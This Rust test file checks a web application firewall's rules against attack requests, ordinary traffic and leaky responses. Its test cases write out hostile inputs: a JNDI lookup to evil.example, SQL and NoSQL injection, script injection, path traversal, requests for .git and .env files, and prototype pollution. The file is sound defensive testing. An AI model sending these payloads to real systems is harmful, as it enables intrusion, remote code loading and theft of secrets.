//! The built-in rules: each one matches its attacks, and ordinary traffic passes.

use crate::waf::base_rules;
use crate::waf::decisions::{Sample, cases, evaluate};
use crate::waf::language::parser::RuleText;
use crate::waf::library::Library;
use crate::waf::policy::compiled::{Policy, PolicySettings};
use crate::waf::request::head::RequestHead;
use crate::waf::transaction::run::Transaction;
use std::collections::BTreeSet;
use std::sync::Arc;

fn policy() -> Arc<Policy> {
    let mut text = RuleText::default();
    base_rules::add_to(&mut text).unwrap();
    Arc::new(Policy::new(Arc::new(Library::new(text)), PolicySettings::default()))
}

#[test]
fn each_rule_matches_its_attacks_in_queries_forms_and_json() {
    let policy = policy();
    let mut missed = Vec::new();
    for case in cases() {
        let Some(rule) = case.rule else { continue };
        for sample in Sample::places(&case.value) {
            let (rules, is_blocked) = evaluate(&policy, &sample);
            if !is_blocked || (!rules.contains(&rule) && sample.place == "query") {
                missed.push(format!("{rule} {:?} {} {rules:?}", case.value, sample.place));
            }
        }
    }
    assert!(missed.is_empty(), "{} missed:\n{}", missed.len(), missed.join("\n"));
}

#[test]
fn ordinary_traffic_passes() {
    let policy = policy();
    let mut blocked = Vec::new();
    for case in cases().iter().filter(|case| case.rule.is_none()) {
        for sample in Sample::places(&case.value) {
            let (rules, _) = evaluate(&policy, &sample);
            if !rules.is_empty() {
                blocked.push(format!("{:?} {} {rules:?}", case.value, sample.place));
            }
        }
    }
    assert!(blocked.is_empty(), "{} blocked:\n{}", blocked.len(), blocked.join("\n"));
}

/// A request, and the rule that blocks it.
fn check(rule: u32, method: &str, target: &str, headers: &[(&str, &str)], body: &str) {
    let headers = headers.iter().map(|(name, value)| (*name, (*value).to_owned())).collect();
    let sample = Sample { place: "", method, target: target.to_owned(), headers, body: body.to_owned() };
    let (rules, is_blocked) = evaluate(&policy(), &sample);
    assert!(is_blocked && rules.contains(&rule), "{rule} {target}: {rules:?}");
}

#[test]
fn rules_about_the_head_match() {
    check(110_100, "PROPFIND", "/dav/", &[], "");
    check(110_110, "GET", "/?q=a%00b", &[], "");
    check(110_120, "GET", "/", &[("Content-Length", "3"), ("Content-Type", "text/plain")], "a=1");
    check(110_130, "POST", "/", &[("Content-Length", "3")], "a=1");
    check(
        110_140,
        "POST",
        "/",
        &[("Content-Type", "text/plain"), ("Content-Type", "application/json")],
        "{}",
    );
    check(110_160, "POST", "/", &[("Content-Type", "text/plain; charset=ibm037")], "a");
    check(110_170, "POST", "/", &[("Content-Type", "text/plain; charset=utf-8; charset=utf-7")], "a");
    check(110_180, "POST", "/", &[("Content-Type", "text/plain; application/json")], "a");
    check(110_210, "GET", "/index.php~", &[], "");
    check(110_240, "GET", "/a%0d%0aX: y", &[], "");
    check(120_100, "GET", "/", &[("User-Agent", "sqlmap/1.8")], "");
    check(120_110, "GET", "/", &[("X-Scanner", "acunetix-product")], "");
    check(130_110, "GET", "/download?f=%252e%252e%252fx", &[], "");
    check(130_130, "GET", "/.git/config", &[], "");
    check(130_130, "GET", "/app/.env", &[], "");
    check(141_100, "GET", "/", &[("Referer", "http://a.example/<script>alert(1)</script>")], "");
    check(142_100, "GET", "/", &[("Cookie", "id=1' OR '1'='1")], "");
    check(144_100, "GET", "/", &[("X-Api-Version", "${jndi:ldap://evil.example/a}")], "");
    let referer = [("Referer", "http://evil.example/")];
    check(144_140, "GET", "/login?jsessionid=ABCDEF", &referer, "");
    check(134_170, "POST", "/", &[("Content-Type", "application/json")], r#"{"user": {"$ne": 1}}"#);
    check(134_175, "POST", "/", &[("Content-Type", "application/json")], r#"{"user": {"$gt": ""}}"#);
    check(134_130, "POST", "/", &[("Content-Type", "application/json")], r#"{"__proto__": {"a": 1}}"#);
}

#[test]
fn rules_about_uploads_match() {
    let part = |header: &str| {
        format!("--b\r\nContent-Disposition: form-data; name=\"f\"; {header}\r\n\r\nx\r\n--b--\r\n")
    };
    let headers = [("Content-Type", "multipart/form-data; boundary=b")];
    check(143_100, "POST", "/", &headers, &part("filename=\"a.php\""));
    check(143_100, "POST", "/", &headers, &part("filename=\"a.php.jpg\""));
    check(110_260, "POST", "/", &headers, &part("filename=\"a\"\r\nContent-Transfer-Encoding: base64"));
    check(110_270, "POST", "/", &headers, &part("filename=\"a\"\r\nContent-Type: text/plain; charset=utf-7"));
}

/// The rules that a response matches, and whether it is blocked.
fn respond(body: &str) -> (BTreeSet<u32>, bool) {
    let mut text = RuleText::default();
    base_rules::add_to(&mut text).unwrap();
    let settings = PolicySettings { is_response_inspected: true, ..PolicySettings::default() };
    let policy = Arc::new(Policy::new(Arc::new(Library::new(text)), settings));
    let head = RequestHead {
        method: b"GET",
        target: b"/",
        protocol: b"HTTP/1.1",
        headers: &[(b"Host", b"shop.example")],
        remote_address: [192, 0, 2, 1].into(),
        id: b"1",
    };
    let mut transaction = Transaction::new(policy, &head, false);
    transaction.run_head();
    transaction.run_body();
    transaction.request_mut().add_response(200, b"HTTP/1.1", &[(b"Content-Type", b"text/html")]);
    let is_blocked = transaction.run_response(body.as_bytes()).is_some();
    (transaction.matches().iter().map(|found| found.rule).collect(), is_blocked)
}

#[test]
fn rules_about_responses_match_and_ordinary_pages_pass() {
    for (rule, body) in [
        (150_100, "<p>You have an error in your SQL syntax; check the manual</p>"),
        (150_100, "java.sql.SQLException: ORA-00933: SQL command not properly ended"),
        (150_110, "Traceback (most recent call last):\n  File \"app.py\", line 7"),
        (150_110, "java.lang.NullPointerException\n\tat com.example.Shop.run(Shop.java:17)"),
        (150_110, "<b>Warning</b>: include(a.php): failed in /srv/a.php on line <b>7</b>"),
        (150_120, "<html><head><title>Index of /backup</title></head>"),
        (150_130, "<?php echo 1;"),
        (150_130, "-----BEGIN RSA PRIVATE KEY-----\nMII"),
    ] {
        let (rules, is_blocked) = respond(body);
        assert!(is_blocked && rules.contains(&rule), "{rule} {body:?}: {rules:?}");
    }
    for body in [
        "<html><head><title>Index of products</title></head><p>An error occurred: try again</p>",
        "{\"id\": 7, \"note\": \"SQL course, line 3\"}",
        "The warning on line 7 of the form: choose a date",
    ] {
        assert_eq!(respond(body), (BTreeSet::new(), false), "{body:?}");
    }
}
